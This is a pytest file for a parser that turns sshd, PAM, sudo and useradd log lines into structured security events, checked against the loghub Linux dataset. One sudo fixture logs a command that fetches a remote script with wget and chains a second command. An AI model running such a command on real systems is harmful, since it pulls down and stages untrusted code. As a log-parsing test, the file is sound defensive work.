"""Auth-log classification: Filebeat system/auth conventions on loghub's and modern OpenSSH lines.

Ground truth: loghub's Linux_2k.log and its structured CSV (../shared/data/loghub, research use
with attribution, see loghub/LICENSE). The modern lines are written here, in OpenSSH 8-9's words.
"""

from __future__ import annotations

import csv
import ipaddress
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.errors import ParseError
from pipeline.records import get_path
from sensors.parsers import LineContext, parse_auth, parse_auth_line, parse_syslog

LOGHUB = Path(__file__).resolve().parents[3] / "shared" / "data" / "loghub" / "Linux"
ICT = ZoneInfo("Asia/Ho_Chi_Minh")
CTX = LineContext(tz=ICT, reference=datetime(2026, 11, 23, 12, 0, tzinfo=UTC))
T = datetime(2026, 11, 23, 3, 0, tzinfo=UTC)  # "Nov 23 10:00:00" in Ho Chi Minh City


def header(appname: str, procid: str | None = None, *, hostname: str = "web1") -> dict[str, Any]:
    """The fields every line of `hostname` from `appname[procid]` has (`syslog_document`)."""
    doc: dict[str, Any] = {
        "@timestamp": T,
        "host": {"hostname": hostname},
        "process": {"name": appname.partition("(")[0]},
        "log": {"syslog": {"hostname": hostname, "appname": appname}},
    }
    if procid is not None:
        doc["process"]["pid"] = int(procid)
        doc["log"]["syslog"]["procid"] = procid
    return doc


def auth_doc(appname: str, procid: str | None, message: str, event: dict[str, Any],
             related: dict[str, list[str]], **fields: Any) -> dict[str, Any]:
    return {**header(appname, procid), "message": message,
            "event": {"kind": "event", "module": "system", "dataset": "system.auth", **event},
            "related": {"hosts": ["web1"], **related}, **fields}


FAILURE = {"category": ["authentication"], "type": ["info"], "action": "ssh_login", "outcome": "failure"}
SUCCESS = {"category": ["authentication", "session"], "type": ["info"], "action": "ssh_login",
           "outcome": "success"}
DISCONNECT = {"category": ["network"], "type": ["end"], "action": "ssh_disconnect"}
PAM_FAILURE = {"category": ["authentication"], "type": ["info"], "action": "authentication_failure",
               "outcome": "failure"}

MODERN_LINES: list[tuple[str, dict[str, Any]]] = [
    ("Failed password for root from 203.0.113.77 port 40022 ssh2", auth_doc(
        "sshd", "123", "Failed password for root from 203.0.113.77 port 40022 ssh2", FAILURE,
        {"user": ["root"], "ip": ["203.0.113.77"]},
        user={"name": "root"}, source={"address": "203.0.113.77", "ip": "203.0.113.77", "port": 40022},
        system={"auth": {"ssh": {"event": "Failed", "method": "password"}}})),
    ("Failed password for invalid user admin from 2001:DB8::77 port 40022 ssh2", auth_doc(
        "sshd", "123", "Failed password for invalid user admin from 2001:DB8::77 port 40022 ssh2", FAILURE,
        {"user": ["admin"], "ip": ["2001:db8::77"]},
        user={"name": "admin"}, source={"address": "2001:DB8::77", "ip": "2001:db8::77", "port": 40022},
        system={"auth": {"ssh": {"event": "Failed", "method": "password"}}})),
    ("Failed publickey for git from scanner.example.net port 2222 ssh2: RSA SHA256:AbC", auth_doc(
        "sshd", "123", "Failed publickey for git from scanner.example.net port 2222 ssh2: RSA SHA256:AbC",
        FAILURE, {"user": ["git"]},
        user={"name": "git"},
        source={"address": "scanner.example.net", "domain": "scanner.example.net", "port": 2222},
        system={"auth": {"ssh": {"event": "Failed", "method": "publickey", "signature": "RSA SHA256:AbC"}}})),
    ("Accepted publickey for alice from 10.20.0.5 port 52144 ssh2: ED25519 SHA256:x1Y2", auth_doc(
        "sshd", "123", "Accepted publickey for alice from 10.20.0.5 port 52144 ssh2: ED25519 SHA256:x1Y2",
        SUCCESS, {"user": ["alice"], "ip": ["10.20.0.5"]},
        user={"name": "alice"}, source={"address": "10.20.0.5", "ip": "10.20.0.5", "port": 52144},
        system={"auth": {"ssh": {"event": "Accepted", "method": "publickey",
                                 "signature": "ED25519 SHA256:x1Y2"}}})),
    ("Accepted password for quan tri from 10.20.0.5 port 52144 ssh2", auth_doc(
        "sshd", "123", "Accepted password for quan tri from 10.20.0.5 port 52144 ssh2", SUCCESS,
        {"user": ["quan tri"], "ip": ["10.20.0.5"]},
        user={"name": "quan tri"}, source={"address": "10.20.0.5", "ip": "10.20.0.5", "port": 52144},
        system={"auth": {"ssh": {"event": "Accepted", "method": "password"}}})),
    ("Invalid user oracle from 198.51.100.9 port 41234", auth_doc(
        "sshd", "123", "Invalid user oracle from 198.51.100.9 port 41234", FAILURE,
        {"user": ["oracle"], "ip": ["198.51.100.9"]},
        user={"name": "oracle"}, source={"address": "198.51.100.9", "ip": "198.51.100.9", "port": 41234},
        system={"auth": {"ssh": {"event": "Invalid"}}})),
    ("Connection closed by invalid user oracle 198.51.100.9 port 41234 [preauth]", auth_doc(
        "sshd", "123", "Connection closed by invalid user oracle 198.51.100.9 port 41234 [preauth]", DISCONNECT,
        {"user": ["oracle"], "ip": ["198.51.100.9"]},
        user={"name": "oracle"}, source={"address": "198.51.100.9", "ip": "198.51.100.9", "port": 41234},
        system={"auth": {"ssh": {"event": "Connection closed"}}})),
    ("Disconnected from authenticating user root 203.0.113.77 port 40022 [preauth]", auth_doc(
        "sshd", "123", "Disconnected from authenticating user root 203.0.113.77 port 40022 [preauth]",
        DISCONNECT, {"user": ["root"], "ip": ["203.0.113.77"]},
        user={"name": "root"}, source={"address": "203.0.113.77", "ip": "203.0.113.77", "port": 40022},
        system={"auth": {"ssh": {"event": "Disconnected"}}})),
    ("Connection closed by 203.0.113.77 port 40022 [preauth]", auth_doc(
        "sshd", "123", "Connection closed by 203.0.113.77 port 40022 [preauth]", DISCONNECT,
        {"ip": ["203.0.113.77"]},
        source={"address": "203.0.113.77", "ip": "203.0.113.77", "port": 40022},
        system={"auth": {"ssh": {"event": "Connection closed"}}})),
    ("Received disconnect from 203.0.113.77 port 40022:11: Bye Bye [preauth]", auth_doc(
        "sshd", "123", "Received disconnect from 203.0.113.77 port 40022:11: Bye Bye [preauth]", DISCONNECT,
        {"ip": ["203.0.113.77"]},
        source={"address": "203.0.113.77", "ip": "203.0.113.77", "port": 40022},
        system={"auth": {"ssh": {"event": "Received disconnect"}}})),
    ("Did not receive identification string from 203.0.113.77 port 40022", auth_doc(
        "sshd", "123", "Did not receive identification string from 203.0.113.77 port 40022",
        {}, {"ip": ["203.0.113.77"]},
        source={"address": "203.0.113.77", "ip": "203.0.113.77", "port": 40022},
        system={"auth": {"ssh": {"dropped_ip": "203.0.113.77"}}})),
    ("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
     "rhost=203.0.113.77  user=root", auth_doc(
        "sshd", "123", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
        "rhost=203.0.113.77  user=root", PAM_FAILURE, {"user": ["root"], "ip": ["203.0.113.77"]},
        source={"address": "203.0.113.77", "ip": "203.0.113.77"}, user={"name": "root"})),
    ("pam_unix(sshd:auth): check pass; user unknown", auth_doc(
        "sshd", "123", "pam_unix(sshd:auth): check pass; user unknown",
        {"category": ["authentication"], "type": ["info"]}, {})),
    ("pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", auth_doc(
        "sshd", "123", "pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)",
        {"category": ["session"], "type": ["start"], "action": "logged-on"}, {"user": ["alice"]},
        user={"name": "alice"})),
    ("pam_unix(sshd:session): session closed for user alice", auth_doc(
        "sshd", "123", "pam_unix(sshd:session): session closed for user alice",
        {"category": ["session"], "type": ["end"], "action": "logged-off"}, {"user": ["alice"]},
        user={"name": "alice"})),
]


@pytest.mark.parametrize("message, expected", MODERN_LINES, ids=[m[:40] for m, _ in MODERN_LINES])
def test_modern_sshd_lines(message: str, expected: dict[str, Any]) -> None:
    assert parse_auth_line(f"Nov 23 10:00:00 web1 sshd[123]: {message}", CTX) == expected


def test_openssh_9_8_sshd_session_is_sshd() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 sshd-session[9]: Failed password for root from 192.0.2.1 "
                          "port 22 ssh2", CTX)
    assert (doc["event"]["dataset"], doc["event"]["outcome"], doc["process"]["name"]) == (
        "system.auth", "failure", "sshd-session")


def test_sudo_command() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                          "COMMAND=/usr/bin/wget -q http://203.0.113.99/x.sh ; echo ok", CTX)
    assert doc == {
        **header("sudo"),
        "message": "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                   "COMMAND=/usr/bin/wget -q http://203.0.113.99/x.sh ; echo ok",
        "event": {"kind": "event", "module": "system", "dataset": "system.auth",
                  "category": ["process"], "type": ["start"]},
        "related": {"hosts": ["web1"], "user": ["alice", "root"]},
        "user": {"name": "alice", "effective": {"name": "root"}},
        "system": {"auth": {"sudo": {"tty": "pts/0", "pwd": "/home/alice", "user": "root",
                                     "command": "/usr/bin/wget -q http://203.0.113.99/x.sh ; echo ok"}}},
    }


def test_sudo_refused() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 sudo[77]: tsg : user NOT in sudoers ; TTY=pts/1 ; "
                          "PWD=/home/tsg ; USER=root ; COMMAND=/bin/ls", CTX)
    assert doc["system"]["auth"]["sudo"] == {"tty": "pts/1", "pwd": "/home/tsg", "user": "root",
                                             "command": "/bin/ls", "error": "user NOT in sudoers"}
    assert doc["event"]["outcome"] == "failure"
    assert doc["related"]["user"] == ["tsg", "root"]


def test_sudo_session_by_another_user() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 sudo: pam_unix(sudo:session): session opened for user "
                          "root(uid=0) by alice(uid=1000)", CTX)
    assert doc["user"] == {"name": "alice", "effective": {"name": "root"}}
    assert doc["event"]["action"] == "logged-on"
    assert doc["related"]["user"] == ["alice", "root"]


def test_su_both_forms() -> None:
    modern = parse_auth_line("Nov 23 10:00:00 web1 su[5]: pam_unix(su:session): session opened for user "
                             "root(uid=0) by alice(uid=1000)", CTX)
    old = parse_auth_line("Nov 23 10:00:00 web1 su(pam_unix)[21416]: session opened for user cyrus by (uid=0)",
                          CTX)
    assert (modern["process"]["name"], modern["user"]) == ("su", {"name": "alice", "effective": {"name": "root"}})
    assert (old["process"]["name"], old["user"]) == ("su", {"name": "cyrus"})
    assert old["event"]["category"] == modern["event"]["category"] == ["session"]


def test_password_change() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 passwd[8]: pam_unix(passwd:chauthtok): password changed for bob",
                          CTX)
    assert doc["event"] == {"kind": "event", "module": "system", "dataset": "system.auth",
                            "category": ["iam"], "type": ["change"], "action": "password-changed",
                            "outcome": "success"}
    assert doc["user"] == {"name": "bob", "target": {"name": "bob"}}


def test_useradd_and_groupadd() -> None:
    user = parse_auth_line("Nov 23 10:00:00 web1 useradd[6995]: new user: name=apache, UID=48, GID=48, "
                           "home=/usr/share/httpd, shell=/sbin/nologin, from=/dev/pts/0", CTX)
    assert user == auth_doc(
        "useradd", "6995", "new user: name=apache, UID=48, GID=48, home=/usr/share/httpd, shell=/sbin/nologin, "
        "from=/dev/pts/0", {"category": ["iam"], "type": ["user", "creation"], "outcome": "success"},
        {"user": ["apache"]}, user={"name": "apache", "id": "48"}, group={"id": "48"},
        system={"auth": {"useradd": {"home": "/usr/share/httpd", "shell": "/sbin/nologin"}}})
    group = parse_auth_line("Nov 23 10:00:00 web1 groupadd[6991]: new group: name=apache, GID=48", CTX)
    assert group["group"] == {"name": "apache", "id": "48"}
    assert group["event"]["type"] == ["group", "creation"]
    deleted = parse_auth_line("Nov 23 10:00:00 web1 userdel[7]: delete user 'bob'", CTX)
    assert (deleted["user"], deleted["event"]["type"]) == ({"name": "bob"}, ["user", "deletion"])


def test_other_programs_are_generic_syslog_events() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 kernel: Out of memory: Killed process 42", CTX)
    assert doc == {**header("kernel"), "message": "Out of memory: Killed process 42",
                   "event": {"kind": "event", "module": "system", "dataset": "system.syslog"},
                   "related": {"hosts": ["web1"]}}
    cron = parse_auth_line("Nov 23 10:00:00 web1 CRON[9]: (root) CMD (run-parts /etc/cron.hourly)", CTX)
    assert cron["event"]["dataset"] == "system.syslog"


def test_pam_lines_of_any_program_are_auth() -> None:
    doc = parse_auth_line("Nov 23 10:00:00 web1 CRON[9]: pam_unix(cron:session): session opened for user "
                          "root(uid=0) by (uid=0)", CTX)
    assert (doc["event"]["dataset"], doc["event"]["action"], doc["user"]) == (
        "system.auth", "logged-on", {"name": "root"})


# --- loghub -------------------------------------------------------------------------------------

def loghub_docs() -> list[tuple[dict[str, str], dict[str, Any]]]:
    lines = (LOGHUB / "Linux_2k.log").read_bytes().decode("utf-8").split("\n")
    with (LOGHUB / "Linux_2k.log_structured.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    ctx = LineContext(tz=ICT, reference=datetime(2026, 8, 1, tzinfo=UTC))
    return [(row, parse_auth_line(line.removesuffix("\r"), ctx)) for line, row in zip(lines, rows, strict=True)]


def test_loghub_sshd_lines_are_auth_events() -> None:
    docs = loghub_docs()
    sshd = [(row, doc) for row, doc in docs if row["Component"] == "sshd(pam_unix)"]
    assert len(sshd) == 677
    for row, doc in sshd:
        assert doc["event"]["dataset"] == "system.auth"
        assert doc["event"]["module"] == "system"
        assert doc["process"] == {"name": "sshd", "pid": int(row["PID"])}
        assert doc["message"] == row["Content"]


def test_loghub_authentication_failures() -> None:
    failures = [(row, doc) for row, doc in loghub_docs() if row["Content"].startswith("authentication failure;")
                and row["Component"] == "sshd(pam_unix)"]
    assert len(failures) == 489
    for row, doc in failures:
        rhost = row["Content"].split("rhost=")[1].split()[0]
        assert doc["event"]["outcome"] == "failure"
        assert doc["event"]["category"] == ["authentication"]
        assert doc["source"]["address"] == rhost
        pam_user = dict(token.partition("=")[::2] for token in row["Content"].split()).get("user")
        if pam_user:
            assert doc["user"]["name"] == pam_user
            assert doc["related"]["user"] == [pam_user]
        else:
            assert "user" not in doc
        try:
            ipaddress.ip_address(rhost)
            assert (doc["source"]["ip"], doc["related"]["ip"]) == (rhost, [rhost])
        except ValueError:
            assert doc["source"]["domain"] == rhost and "ip" not in doc["source"]


def test_loghub_sessions_and_other_programs() -> None:
    docs = loghub_docs()
    gdm_failure = next(doc for row, doc in docs if row["Component"] == "gdm(pam_unix)"
                       and row["Content"].startswith("authentication failure;"))
    assert gdm_failure["event"]["outcome"] == "failure" and "source" not in gdm_failure  # rhost= is empty
    sessions = [doc for row, doc in docs if "session opened" in row["Content"]]
    assert sessions and all(d["event"]["action"] == "logged-on" and d["user"]["name"] for d in sessions)
    by_dataset = {row["Component"]: doc["event"]["dataset"] for row, doc in docs}
    assert by_dataset["su(pam_unix)"] == by_dataset["login(pam_unix)"] == "system.auth"
    assert by_dataset["ftpd"] == by_dataset["kernel"] == by_dataset["syslogd 1.4.1"] == "system.syslog"
    assert all("outcome" not in doc["event"] for row, doc in docs if row["Component"] == "ftpd")


# --- robustness ---------------------------------------------------------------------------------

SSHD_HEADS = ["Accepted ", "Failed ", "Failed password for invalid user ", "Invalid user ", "Illegal user ",
              "Connection closed by ", "Disconnected from user ", "Received disconnect from ",
              "Did not receive identification string from ", "pam_unix(sshd:auth): authentication failure; ",
              "pam_unix(sshd:session): session opened for user ", "session closed for user "]

auth_messages = st.builds(
    lambda program, head, body: f"Nov 23 10:00:00 web1 {program}: {head}{body}",
    st.sampled_from(["sshd[1]", "sshd(pam_unix)[1]", "sudo", "su", "useradd[2]", "groupdel", "passwd", "cron"]),
    st.sampled_from([*SSHD_HEADS, "", "new user: ", "new group: ", "x : TTY=", "pam_unix(su:chauthtok): "]),
    st.one_of(
        st.lists(st.sampled_from(["from", "port", "ssh2", "user", "invalid", "by", "(uid=0)", "1.2.3.4", "::1",
                                  "host.example", "22", "99999", ";", "=", ":", "[preauth]", "COMMAND=", "USER=",
                                  "rhost=", "user=", "name=x,", "GID=1", "'", "\"", ""]), max_size=12).map(" ".join),
        st.text(max_size=80),
    ),
)


@given(st.one_of(st.text(), auth_messages))
@example("Nov 23 10:00:00 web1 sshd[1]: Failed x for  from 1.2.3.4 port 99999 ssh2")
@example("Nov 23 10:00:00 web1 sshd[1]: Invalid user  from ::1")
@example("Nov 23 10:00:00 web1 sudo:  : TTY=x ; PWD=y ; USER= ; COMMAND=")
def test_any_text_gives_a_document_or_parse_error(line: str) -> None:
    try:
        doc = parse_auth_line(line, CTX)
    except ParseError:
        return
    assert doc["@timestamp"].tzinfo is UTC
    assert doc["event"]["dataset"] in ("system.auth", "system.syslog")
    if get_path(doc, "source.ip") is not None:
        ipaddress.ip_address(doc["source"]["ip"])
        assert doc["related"]["ip"] == [doc["source"]["ip"]]
    port = get_path(doc, "source.port")
    assert port is None or 0 <= port <= 65535
    users = doc.get("related", {}).get("user", [])
    assert len(users) == len(set(users)) and all(users)
    assert get_path(doc, "user.name") in (None, *users)


def test_record_level_function_matches_the_line_parser() -> None:
    line = "Nov 23 10:00:00 web1 sshd[123]: Failed password for root from 203.0.113.77 port 40022 ssh2"
    doc = parse_auth(parse_syslog(line, tz=ICT, reference=CTX.reference))
    assert "@timestamp" not in doc
    assert {**doc, "@timestamp": T} == parse_auth_line(line, CTX)


@pytest.mark.parametrize("message", [
    "Failed password for " + " from a" * 9_000 + " port 1 ssh2x",
    "Invalid user " + "x from " * 9_000,
    "Connection closed by invalid user " + "a " * 30_000 + "port",
    "Received disconnect from a port 1:" + "1" * 60_000,
    "alice : " + "TTY=x ; " * 8_000 + "COMMAND=/bin/ls",
    "pam_unix(sshd:auth): authentication failure; " + "rhost= " * 9_000,
])
def test_long_hostile_messages_parse_in_linear_time(message: str) -> None:
    for program in ("sshd[1]", "sudo"):
        started = time.perf_counter()
        parse_auth_line(f"Nov 23 10:00:00 web1 {program}: {message}", CTX)
        assert time.perf_counter() - started < 0.5
